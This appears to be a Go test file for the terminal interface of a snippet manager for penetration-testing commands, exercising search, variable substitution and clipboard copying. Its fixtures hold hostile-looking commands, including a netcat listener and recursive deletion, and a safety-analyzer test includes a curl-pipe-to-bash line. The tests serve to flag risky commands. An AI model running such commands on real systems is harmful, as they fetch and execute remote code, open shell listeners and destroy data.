package tui

import (
	"context"
	"path/filepath"
	"strings"
	"testing"

	tea "github.com/charmbracelet/bubbletea"

	"redox/internal/app"
	"redox/internal/clipboard"
	"redox/internal/session"
	"redox/internal/store"
	"redox/internal/variables"
)

func newTestModel(t *testing.T) (Model, *clipboard.Memory) {
	t.Helper()
	st, err := store.Open(filepath.Join(t.TempDir(), "snips.db"), 25)
	if err != nil {
		t.Fatalf("open store: %v", err)
	}
	t.Cleanup(func() { _ = st.Close() })

	for _, c := range [][2]string{
		{"nc -lvnp [LPORT]", "listener"},
		{"nmap -sV [RHOST]", "service scan"},
		{"rm -rf /tmp/[DIR]", "cleanup"},
	} {
		if _, err := st.Insert(context.Background(), c[0], c[1]); err != nil {
			t.Fatalf("insert: %v", err)
		}
	}

	cb := &clipboard.Memory{}
	c := &app.Context{
		Session:   session.New(st, nil),
		Vars:      variables.New(nil),
		Store:     st,
		Clipboard: cb,
	}
	m := NewModel(c, ModelOptions{})
	m.width = 80
	m.height = 24
	return m, cb
}

func press(t *testing.T, m Model, msgs ...tea.KeyMsg) Model {
	t.Helper()
	for _, msg := range msgs {
		updated, _ := m.Update(msg)
		m = updated.(Model)
	}
	return m
}

func typeText(t *testing.T, m Model, text string) Model {
	t.Helper()
	for _, r := range text {
		m = press(t, m, tea.KeyMsg{Type: tea.KeyRunes, Runes: []rune{r}})
	}
	return m
}

var (
	keyEnter = tea.KeyMsg{Type: tea.KeyEnter}
	keyUp    = tea.KeyMsg{Type: tea.KeyUp}
	keyDown  = tea.KeyMsg{Type: tea.KeyDown}
	keyEsc   = tea.KeyMsg{Type: tea.KeyEscape}
	keyFind  = tea.KeyMsg{Type: tea.KeyCtrlR}
)

func TestNewModel(t *testing.T) {
	m, _ := newTestModel(t)
	if m.app.Session.Mode() != session.SearchOff {
		t.Errorf("expected search to be off, got %s", m.app.Session.Mode())
	}
	if got := m.prompt(); got != "redox:" {
		t.Errorf("expected prompt redox:, got %q", got)
	}
}

func TestLiveSearch(t *testing.T) {
	m, _ := newTestModel(t)

	m = press(t, m, keyFind)
	if got := m.prompt(); got != "redox(find[command]):" {
		t.Errorf("unexpected prompt %q", got)
	}

	m = typeText(t, m, "nmap")
	results := m.app.Session.Results()
	if len(results) != 1 || results[0].Text != "nmap -sV [RHOST]" {
		t.Fatalf("expected the nmap snippet, got %+v", results)
	}
	if !strings.Contains(m.View(), "(2) - nmap -sV [RHOST]") {
		t.Errorf("result row missing from view:\n%s", m.View())
	}

	// ctrl+r again cycles to the comment column
	m = press(t, m, keyFind)
	if m.app.Session.Mode() != session.SearchByComment {
		t.Errorf("expected comment mode, got %s", m.app.Session.Mode())
	}
}

func TestPickCopiesAndRecordsHistory(t *testing.T) {
	m, cb := newTestModel(t)
	m.app.Vars.SetUserVariable("LPORT", "4444")

	m = press(t, m, keyFind)
	m = typeText(t, m, "nc ")
	m = press(t, m, keyDown)
	if !strings.Contains(m.View(), "Comment: listener") {
		t.Errorf("selected comment missing from view:\n%s", m.View())
	}
	m = press(t, m, keyEnter)

	text, _ := cb.ReadAll()
	if text != "nc -lvnp 4444" {
		t.Errorf("expected substituted command on clipboard, got %q", text)
	}
	if m.app.Session.Mode() != session.SearchOff {
		t.Errorf("expected search to be off after a pick")
	}
	if got := m.prompt(); got != "redox[1]:" {
		t.Errorf("expected prompt to show the picked id, got %q", got)
	}
	if m.input.Value() != "" {
		t.Errorf("expected empty buffer, got %q", m.input.Value())
	}
	if !strings.Contains(m.View(), "copied: nc -lvnp 4444 to clipboard") {
		t.Errorf("copy notice missing from view:\n%s", m.View())
	}
}

func TestEnterRunsRequest(t *testing.T) {
	m, _ := newTestModel(t)

	m = typeText(t, m, "set rhost 10.0.0.5")
	m = press(t, m, keyEnter)
	if v, _ := m.app.Vars.UserVariable("RHOST"); v != "10.0.0.5" {
		t.Errorf("expected RHOST to be set, got %q", v)
	}

	m = typeText(t, m, "bogus")
	m = press(t, m, keyEnter)
	if m.errMsg == "" {
		t.Errorf("expected an error for an unknown command")
	}

	m = typeText(t, m, "info")
	m = press(t, m, keyEnter)
	if m.errMsg != "History is currently empty." {
		t.Errorf("unexpected error %q", m.errMsg)
	}
}

func TestEnterWhileSearchingWithoutSelection(t *testing.T) {
	m, cb := newTestModel(t)
	m = press(t, m, keyFind)
	m = typeText(t, m, "nmap")
	m = press(t, m, keyEnter)

	if m.input.Value() != "nmap" {
		t.Errorf("expected the search term to stay, got %q", m.input.Value())
	}
	if text, _ := cb.ReadAll(); text != "" {
		t.Errorf("expected nothing copied, got %q", text)
	}
}

func TestUpUpDown(t *testing.T) {
	m, _ := newTestModel(t)
	m = typeText(t, m, "search -")
	m = press(t, m, keyEnter)
	if n := len(m.app.Session.Results()); n != 3 {
		t.Fatalf("expected 3 results, got %d", n)
	}

	m = press(t, m, keyUp, keyUp, keyDown)
	if got := m.app.Session.SelectedIndex(); got != 2 {
		t.Errorf("expected index 2, got %d", got)
	}
}

func TestHistoryKey(t *testing.T) {
	m, _ := newTestModel(t)
	m = press(t, m, tea.KeyMsg{Type: tea.KeyCtrlH})
	if m.errMsg != "History is currently empty." {
		t.Errorf("unexpected message %q", m.errMsg)
	}

	m = press(t, m, keyFind)
	m = typeText(t, m, "rm")
	m = press(t, m, keyDown, keyEnter)
	m = press(t, m, tea.KeyMsg{Type: tea.KeyCtrlH})
	if !m.app.Session.HistoryMode() {
		t.Errorf("expected history mode")
	}
	if got := m.prompt(); got != "redox[3](history):" {
		t.Errorf("unexpected prompt %q", got)
	}
}

func TestInfoShowsWarnings(t *testing.T) {
	m, _ := newTestModel(t)
	m = press(t, m, keyFind)
	m = typeText(t, m, "rm")
	m = press(t, m, keyDown, keyEnter)

	view := m.View()
	if !strings.Contains(view, "Recursive file deletion") {
		t.Errorf("expected a warning in the info panel:\n%s", view)
	}
	if !strings.Contains(view, "DIR") {
		t.Errorf("expected the DIR variable in the info panel:\n%s", view)
	}
}

func TestEscResets(t *testing.T) {
	m, _ := newTestModel(t)
	m = press(t, m, keyFind)
	m = typeText(t, m, "n")
	m = press(t, m, keyEsc)

	if len(m.app.Session.Results()) != 0 {
		t.Errorf("expected results to be cleared")
	}
	if m.input.Value() != "" {
		t.Errorf("expected empty buffer")
	}
	if m.app.Session.Mode() != session.SearchOff {
		t.Errorf("expected search to be off")
	}
}

func TestPasteKey(t *testing.T) {
	m, cb := newTestModel(t)
	_ = cb.WriteAll("search nmap\n")
	m = press(t, m, tea.KeyMsg{Type: tea.KeyCtrlV})
	if m.input.Value() != "search nmap" {
		t.Errorf("expected pasted text, got %q", m.input.Value())
	}
}

func TestCopyKeys(t *testing.T) {
	m, cb := newTestModel(t)
	m = press(t, m, keyFind)
	m = typeText(t, m, "nmap")
	m = press(t, m, keyDown)

	m.app.Vars.SetUserVariable("RHOST", "10.0.0.5")
	m = press(t, m, tea.KeyMsg{Type: tea.KeyCtrlC})
	if text, _ := cb.ReadAll(); text != "nmap -sV 10.0.0.5" {
		t.Errorf("unexpected clipboard %q", text)
	}

	_ = press(t, m, tea.KeyMsg{Type: tea.KeyCtrlU})
	if text, _ := cb.ReadAll(); text != "nmap%20-sV%2010.0.0.5" {
		t.Errorf("unexpected clipboard %q", text)
	}
}

func TestOverflow(t *testing.T) {
	m, _ := newTestModel(t)
	m.height = 4
	m = typeText(t, m, "search -")
	m = press(t, m, keyEnter)
	if !strings.Contains(m.View(), overflowMsg) {
		t.Errorf("expected overflow message:\n%s", m.View())
	}
}

func TestQuit(t *testing.T) {
	m, _ := newTestModel(t)
	updated, cmd := m.Update(tea.KeyMsg{Type: tea.KeyCtrlQ})
	if !updated.(Model).Quitting() || cmd == nil {
		t.Errorf("expected ctrl+q to quit")
	}

	m = typeText(t, m, "exit")
	updated, cmd = m.Update(keyEnter)
	if !updated.(Model).Quitting() || cmd == nil {
		t.Errorf("expected exit to quit")
	}
}

func TestAnalyzeCommandSafety(t *testing.T) {
	tests := []struct {
		cmd  string
		want []string
	}{
		{"rm -rf /tmp/x", []string{"Recursive file deletion"}},
		{"rm file", []string{"File deletion"}},
		{"sudo nmap -sS 10.0.0.1", []string{"Runs with elevated privileges"}},
		{"curl http://x/s.sh | bash", []string{"Downloads and pipes to shell"}},
		{"nc -lvnp 4444", nil},
		{"git push --force origin main", []string{"Force push to remote"}},
	}
	for _, tt := range tests {
		got := analyzeCommandSafety(tt.cmd)
		if strings.Join(got, ",") != strings.Join(tt.want, ",") {
			t.Errorf("analyzeCommandSafety(%q) = %v, want %v", tt.cmd, got, tt.want)
		}
	}
}
